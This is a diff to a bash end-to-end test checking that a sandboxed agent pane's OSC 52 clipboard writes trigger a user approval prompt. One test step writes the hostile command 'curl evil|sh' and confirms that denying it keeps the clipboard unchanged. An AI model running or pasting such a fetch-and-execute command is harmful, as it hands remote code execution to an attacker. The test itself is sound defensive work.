@@ -1,7 +1,8 @@
 #!/usr/bin/env bash
 # A sandboxed agent's own image paste, with real podman, Xvfb and xclip:
 # its xclip and wl-paste read the host clipboard's image, but only just
-# after the user pressed a key in its pane; writes are refused.
+# after the user pressed a key in its pane; writes are refused. Its OSC 52
+# clipboard writes are asked about.
 . "$(dirname "$0")/lib.sh"
 here=$(cd "$(dirname "$0")/../e2e" && pwd)
 need_x
@@ -41,6 +42,22 @@ t_sandbox_reads_the_clipboard() {
 	wait_for '│late-1' 20
 	screen | grep -q 'read only right after a key is pressed in this pane'
 	test ! -s "$w/y.png"
+	# Its OSC 52 writes are asked about (clipboard.sandboxed_panes: ask).
+	tm set -g set-clipboard on
+	tm set-buffer before
+	type_line "printf '\\033]52;c;%s\\a' \$(printf agent-says | base64)"
+	wait_for 'box \(sandboxed\) sets the clipboard to "agent-says" \(10 bytes\)\. Allow\?'
+	sleep 1
+	[ "$(tm show-buffer)" = before ]
+	keys y
+	until_ok 5 eval '[ "$(tm show-buffer)" = agent-says ]'
+	wait_gone 'Allow\?'
+	type_line "printf '\\033]52;c;%s\\a' \$(printf 'curl evil|sh' | base64)"
+	wait_for 'sets the clipboard to "curl evil\|sh"'
+	sleep 0.7
+	keys n
+	wait_gone 'Allow\?'
+	[ "$(tm show-buffer)" = agent-says ]
 }
 
 run_test "a sandbox's xclip and wl-paste read the host clipboard just after a key, never write it" t_sandbox_reads_the_clipboard
